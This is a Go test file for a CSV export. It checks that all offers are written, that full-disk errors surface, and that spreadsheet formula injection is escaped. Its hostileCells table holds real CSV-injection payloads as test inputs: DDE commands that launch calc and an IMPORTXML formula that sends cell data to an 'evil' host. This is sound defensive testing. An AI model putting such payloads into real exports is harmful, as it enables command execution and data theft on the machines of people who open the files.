package backup_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"maps"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/shopspring/decimal"

	"github.com/offerdesk/offerdesk/offer"
	"github.com/offerdesk/offerdesk/offer/backup"
	"github.com/offerdesk/offerdesk/offer/internal/desktest"
	"github.com/offerdesk/offerdesk/store"
)

var quotedRow = regexp.MustCompile(`(?m)("([^"]|"")*",)*"([^"]|"")*"\n`)

// csvOf returns the cells, and requires each of them to be quoted.
func csvOf(t testing.TB, s store.Store) [][]string {
	t.Helper()
	var b bytes.Buffer
	if err := backup.WriteCSV(t.Context(), s, &b); err != nil {
		t.Fatal(err)
	}
	if rest := quotedRow.ReplaceAll(b.Bytes(), nil); len(rest) > 0 {
		t.Errorf("cells are not quoted: %.200q", rest)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// cellOf returns what an offer has under a heading.
func cellOf(t testing.TB, rows [][]string, id, heading string) string {
	t.Helper()
	i := slices.Index(rows[0], heading)
	for _, r := range rows[1:] {
		if r[0] == id && i >= 0 {
			return r[i]
		}
	}
	t.Fatalf("no %s of %s", heading, id)
	return ""
}

func TestCSVHasEveryOffer(t *testing.T) {
	t.Parallel()
	d := lived(t)
	rows := csvOf(t, d.Store)
	list, err := d.As(desktest.Alice).List(t.Context(), offer.Query{Limit: 1000})
	if err != nil || len(rows) != len(list.Offers)+1 {
		t.Fatalf("%d rows of %d offers, %v", len(rows), len(list.Offers), err)
	}
	if len(rows[0]) != len(offer.Kinds()[0].Columns)+1 || rows[0][0] != "id" {
		t.Errorf("%q", rows[0])
	}
	if !slices.IsSortedFunc(rows[1:], func(a, b []string) int { return strings.Compare(a[0], b[0]) }) {
		t.Error("the rows are not ordered by id")
	}
	for _, row := range []struct{ id, column, want string }{
		{"O-6", "status", "completed"}, {"O-6", "pay_hourly", "50.0000"}, {"O-6", "held", "false"},
		{"O-6", "start_date", "2027-04-05"}, {"O-6", "end_date", ""},
		{"O-6", "created_at", "2027-03-01T09:06:00.000042Z"}, {"O-6", "imported", "false"}, {"O-1", "held", "true"},
		{"a:b@c", "client", "été & co"}, {"O-2", "terms_revision", "2"},
	} {
		t.Run(row.id+" "+row.column, func(t *testing.T) {
			t.Parallel()
			if got := cellOf(t, rows, row.id, row.column); got != row.want {
				t.Errorf("got %q, want %q", got, row.want)
			}
		})
	}
}

func TestCSVToAFullDisk(t *testing.T) {
	t.Parallel()
	s := few(t).Store
	for _, room := range []int{0, 600} {
		if err := backup.WriteCSV(t.Context(), s, &fullDisk{room}); !errors.Is(err, errFull) {
			t.Errorf("room for %d bytes: %v", room, err)
		}
	}
}

// hostileCells are texts with the cells that they become.
var hostileCells = map[string]string{
	"=1+1": "'=1+1", "+1 555": "'+1 555", "@SUM(A1)": "'@SUM(A1)",
	"-1+cmd|' /C calc'!A0": "'-1+cmd|' /C calc'!A0", "-": "'-", "--1": "'--1", "+1": "'+1",
	"\t=1": "'\t=1", "\tx": "'\tx", "\rx": "'\rx", "\nx": "'\nx", " =1": "' =1",
	"\u00a0=1": "'\u00a0=1", "\ufeff=1": "'\ufeff=1", "\x00=1": "'\x00=1", "＝1": "'＝1", "＋1": "'＋1",
	"－1": "'－1", "＠x": "'＠x", `=HYPERLINK("http://x","y")`: `'=HYPERLINK("http://x","y")`,
	"-1e9": "'-1e9", "-1,5": "'-1,5", "-1\n=2": "'-1\n=2", "|calc": "'|calc", "%0A=1": "'%0A=1",
	"a;=1+1": "a;=1+1", "\u200b=1+1": "'\u200b=1+1", `"=1+1"`: `"=1+1"`, "\\.": "\\.", `"`: `"`,
	"-2+3+cmd|' /C calc'!A0":                 "'-2+3+cmd|' /C calc'!A0",
	`=IMPORTXML(CONCAT("//evil/",A1),"//a")`: `'=IMPORTXML(CONCAT("//evil/",A1),"//a")`,
	`=DDE("cmd";"/C calc";"x")`:              `'=DDE("cmd";"/C calc";"x")`,
	"12345678901234567890":                   "'12345678901234567890", "123456789012345": "123456789012345",
	"1234567890123456": "'1234567890123456", "1E5": "'1E5", "0012": "'0012",
	"2026-01-01": "'2026-01-01", "1/2": "'1/2", "TRUE": "'TRUE",
	"0.12345678901234567": "'0.12345678901234567", "-5.00": "-5.00", "1.2.3": "'1.2.3", "A-1": "A-1",
	"-12.50": "-12.50", "-7": "-7", "12": "12", "0.5": "0.5", "": "", "a=b": "a=b", "a-b": "a-b",
	"it's": "it's", "'x": "'x", "a,\"b\"\nc": "a,\"b\"\nc", "été": "été",
}

// A text that a spreadsheet would run or change stays text, and a number stays a
// number.
func TestHostileCells(t *testing.T) {
	t.Parallel()
	s := emptyStore()
	put := func(p store.Put) {
		t.Helper()
		p.Kind, p.Body = "offer", []byte("{}")
		if err := s.Commit(t.Context(), store.Batch{Puts: []store.Put{p}}); err != nil {
			t.Fatal(err)
		}
	}
	texts := slices.Sorted(maps.Keys(hostileCells))
	for i, text := range texts {
		columns := store.Columns{"client": text, "pay_hourly": decimal.New(-5, -1)}
		put(store.Put{ID: fmt.Sprintf("O-%03d", i), Columns: columns})
	}
	put(store.Put{ID: "=id"})
	rows := csvOf(t, s)
	if got := rows[1][0]; got != "'=id" { // = is before O
		t.Errorf("an id is %q", got)
	}
	for i, text := range texts {
		id := fmt.Sprintf("O-%03d", i)
		t.Run(fmt.Sprintf("%q", text), func(t *testing.T) {
			t.Parallel()
			// The reader of CSV reads CR LF in a cell as LF; there is none here.
			if got := cellOf(t, rows, id, "client"); got != hostileCells[text] {
				t.Errorf("got %q, want %q", got, hostileCells[text])
			}
			if pay := cellOf(t, rows, id, "pay_hourly"); pay != "-0.5000" {
				t.Errorf("an amount became %q", pay)
			}
		})
	}
}
